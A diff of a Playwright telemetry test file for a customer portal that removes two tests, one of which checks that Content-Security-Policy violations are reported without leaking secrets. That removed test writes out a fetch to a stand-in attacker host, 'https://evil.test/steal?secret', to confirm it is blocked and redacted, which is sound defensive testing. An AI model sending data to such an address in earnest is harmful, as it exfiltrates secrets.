@@ -5,7 +5,7 @@ import type { Page } from '@playwright/test'
 import { findLeaks, fixtureSecrets } from '../builders/secrets.ts'
 import { makeCode } from './support/accounts.ts'
 import { arriveAtOrders, demo, signIn } from './support/customer.ts'
-import { parts, screenOf } from './support/parts.ts'
+import { screenOf } from './support/parts.ts'
 import { expect, test as portalTest } from './support/portal.ts'
 import { startPortal } from './support/running-portal.ts'
 
@@ -108,12 +108,6 @@ test.describe('Telemetry', () => {
   test.describe('where something breaks', () => {
     test.use({ expectedProblems: [/./] })
 
-    test('tells that the app could not be loaded', async ({ page, collector }) => {
-      await page.route(parts.products, (route) => route.fulfill({ status: 404, body: 'Not found' }))
-      await page.goto('/')
-      await expect.poll(() => collector.bytes()).toMatch(/portal\.start\.failed.*"app"/)
-    })
-
     test('reports the place of an error of a screen, and no data of a customer', async ({ page, collector }) => {
       await page.route(screenOf('orders'), async (route) => {
         const answer = await route.fetch()
@@ -125,27 +119,6 @@ test.describe('Telemetry', () => {
       await expect.poll(() => collector.bytes()).toContain('"TypeError"')
       expect(collector.bytes()).toMatch(/orders-screen-[A-Z0-9]{8}\.js:\d+:\d+/)
       expect(collector.bytes()).not.toMatch(new RegExp(`${demo.username}|Cannot read`))
-    })
-
-    test('reports what the policy of a page has blocked, but nothing of a page with a secret in its address', async ({
-      page,
-      collector,
-    }) => {
-      await page.goto('/sign-in')
-      const block = (path: string, address: string) =>
-        page.evaluate(
-          async ([path, address]) => {
-            history.replaceState(null, '', path)
-            const blocked = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve))
-            await Promise.all([blocked, fetch(address ?? '').catch(() => undefined)])
-          },
-          [path, address],
-        )
-      await block('/magic-link/demo-travel', 'https://unseen.test')
-      await block('/sign-in', 'https://evil.test/steal?secret')
-      await expect.poll(() => collector.bytes()).toMatch(/portal\.policy\.violated.*connect-src.*https:\/\/evil\.test"/)
-      expect(collector.bytes()).not.toContain('steal')
-      expect(collector.bytes()).not.toContain('unseen.test')
     })
   })
 
